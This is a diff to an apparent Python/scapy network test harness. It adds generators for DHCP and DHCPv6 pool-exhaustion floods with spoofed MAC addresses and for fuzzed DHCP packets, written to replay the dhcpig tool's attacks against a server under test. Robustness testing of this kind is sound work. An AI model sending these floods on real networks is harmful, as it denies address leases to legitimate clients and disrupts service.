@@ -23,7 +23,10 @@ import time
 
 from scapy.all import (ARP, BOOTP, DHCP, ICMP, IP, IPv6, TCP, UDP, Ether,
                        ICMPv6EchoRequest, IPv6ExtHdrFragment, Raw,
-                       AsyncSniffer, conf, fuzz, sendp)
+                       DHCP6_Solicit, DHCP6_Request, DHCP6OptClientId,
+                       DHCP6OptIA_NA, DHCP6OptRapidCommit,
+                       DHCP6OptElapsedTime, DUID_LLT, AsyncSniffer, conf,
+                       fuzz, sendp)
 
 conf.verb = 0
 
@@ -214,6 +217,72 @@ class Case:
             self.dhcp(b"\xff\x35\x01\x01\x0c\x04evil"),
             self.dhcp(b"\x35\x01\x01\xff\x32\x04\x0a\x00\x02\x63\x0c\x60" + b"A" * 10),
         ]
+
+    # --- DHCP exhaustion, as dhcpig does it (and harder) ---
+    #
+    # Debian 12's dhcpig crashes in scapy building its first packet (in
+    # both modes), so its attacks are played here: new client hardware
+    # addresses, each asking for a lease, and its fuzz mode.
+
+    def random_mac(self):
+        return "02:%02x:%02x:%02x:%02x:%02x" % tuple(random.randint(0, 255) for _ in range(5))
+
+    def dhcp_exhaustion(self):
+        random.seed(2)
+        out = []
+        for i in range(600):
+            mac = self.random_mac()
+            raw_mac = bytes.fromhex(mac.replace(":", ""))
+            # dhcpig's frames come from the interface's own MAC with a new
+            # chaddr; every other one here also forges the Ethernet source.
+            src = self.me_mac if i % 2 else mac
+            # A DISCOVER, or an INIT-REBOOT REQUEST for a free address of
+            # the pool, which the server grants without an offer first.
+            if i % 3 == 0:
+                opts = [("message-type", "discover"), "end"]
+            else:
+                opts = [("message-type", "request"), ("requested_addr", "10.0.2.%d" % (16 + i % 238)), "end"]
+            out.append(Ether(src=src, dst="ff:ff:ff:ff:ff:ff") / IP(src="0.0.0.0", dst="255.255.255.255") /
+                       UDP(sport=68, dport=67) / BOOTP(chaddr=raw_mac + b"\x00" * 10, xid=random.randint(0, 2**32 - 1)) /
+                       DHCP(options=opts))
+        return out
+
+    def dhcp6_solicit(self, mac, src_ll):
+        return (Ether(src=mac, dst="33:33:00:01:00:02") / IPv6(src=src_ll, dst="ff02::1:2") / UDP(sport=546, dport=547) /
+                DHCP6_Solicit(trid=random.randint(0, 0xffffff)) / DHCP6OptClientId(duid=DUID_LLT(lladdr=mac, timeval=int(time.time()))) /
+                DHCP6OptIA_NA(iaid=0xf) / DHCP6OptRapidCommit() / DHCP6OptElapsedTime())
+
+    def dhcp6_exhaustion(self):
+        # dhcpig -6 -1: the interface's own link-local address, a new
+        # DUID-LLT (and Ethernet source) per SOLICIT, rapid commit.
+        random.seed(3)
+        ll = [l for l in open("/proc/net/if_inet6").read().splitlines() if l.endswith(IFACE) and l.startswith("fe80")]
+        h = ll[0].split()[0]
+        me_ll = ":".join(h[i:i + 4] for i in range(0, 32, 4))
+        return [self.dhcp6_solicit(self.random_mac(), me_ll) for _ in range(600)]
+
+    def dhcp_fuzz(self):
+        # dhcpig -f: the UDP layer and all above it fuzzed.
+        random.seed(4)
+        out = []
+        for _ in range(300):
+            p = (Ether(src=self.me_mac, dst="ff:ff:ff:ff:ff:ff") / IP(src="0.0.0.0", dst="255.255.255.255") /
+                 fuzz(UDP(sport=68, dport=67) / BOOTP(chaddr=bytes.fromhex(self.me_mac.replace(":", ""))) /
+                      DHCP(options=[("message-type", "discover"), "end"])))
+            out.append(Ether(bytes(p)))
+        return out
+
+    def dhcp6_fuzz(self):
+        random.seed(5)
+        out = []
+        for _ in range(300):
+            # The client id stays whole (scapy cannot fuzz a DUID); the
+            # message header, the IA_NA and the UDP header are fuzzed.
+            p = (Ether(src=self.me_mac, dst="33:33:00:01:00:02") / IPv6(src="fe80::1:2", dst="ff02::1:2") /
+                 fuzz(UDP(sport=546, dport=547)) / fuzz(DHCP6_Request()) /
+                 DHCP6OptClientId(duid=DUID_LLT(lladdr=self.me_mac, timeval=1)) / fuzz(DHCP6OptIA_NA()))
+            out.append(Ether(bytes(p)))
+        return out
 
     # --- fuzz() streams ---
 
